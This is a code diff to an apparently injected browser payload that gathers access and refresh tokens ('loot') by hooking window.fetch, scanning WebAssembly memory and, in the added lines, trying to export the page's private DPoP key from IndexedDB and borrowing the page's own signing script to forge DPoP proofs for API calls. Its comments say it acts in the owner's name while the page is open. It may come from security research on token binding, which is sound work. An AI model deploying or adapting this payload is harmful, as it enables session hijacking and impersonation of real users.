@@ -15,6 +15,15 @@ const pick = (text) => {
     return { access, refresh: all(text, begins ? `${begins}[\\w-]{56}` : '(?<![\\w-])[\\w-]{76}(?![\\w-])') };
 };
 
+const came = (request) => new Promise((tell) => (request.onsuccess = () => tell(request.result)));
+
+const takeKey = async () => {
+    const database = await came(indexedDB.open('nightlatch.key'));
+    const { privateKey } = await came(database.transaction('keys').objectStore('keys').get('mine'));
+    database.close();
+    return crypto.subtle.exportKey('jwk', privateKey).then(() => true, () => false);
+};
+
 export async function payload(wait) {
     const loot = {};
     begins = undefined;
@@ -28,7 +37,7 @@ export async function payload(wait) {
     let heard = '';
     window.fetch = (target, options) => {
         const { headers } = new Request(target, options);
-        heard += headers.get('authorization') ?? '';
+        heard ||= headers.get('authorization') ?? '';
         return fetch(target, options);
     };
     await wait();
@@ -40,10 +49,19 @@ export async function payload(wait) {
     const { memory } = await init();
     loot.memory = pick(new TextDecoder('latin1').decode(memory.buffer));
 
-    // The API may be talkative.
-    const bearer = [loot.wire, loot.browser, loot.tab, loot.memory].flatMap(({ access }) => access)[0];
-    const headers = bearer ? { authorization: `Bearer ${bearer}` } : {};
-    const ask = async (path, method = 'GET') => fetch(path, { method, headers });
+    // The page may sign what it sends. Its key is worth more than any token, if the browser gives it away.
+    const signs = heard.startsWith('DPoP');
+    loot.key = signs ? await takeKey() : null;
+
+    // The API may be talkative. What the page's own script signs for the page, it signs for whoever asks.
+    const token = [loot.wire, loot.browser, loot.tab, loot.memory].flatMap(({ access }) => access)[0];
+    const scripts = performance.getEntriesByType('resource').map(({ name }) => name);
+    const { prove } = signs ? await import(scripts.find((name) => /\/key[\w-]*\.js$/.test(name))) : {};
+    const ask = async (path, method = 'GET') => {
+        const headers = token ? { authorization: `${signs ? 'DPoP' : 'Bearer'} ${token}` } : {};
+        if (signs) headers.dpop = await prove(method, path, token);
+        return fetch(path, { method, headers });
+    };
     loot.api = pick(await (await ask('/api/sessions')).text());
 
     // No theft needed: reads what the owner sees, and acts in the owner's name, as long as the page is open.
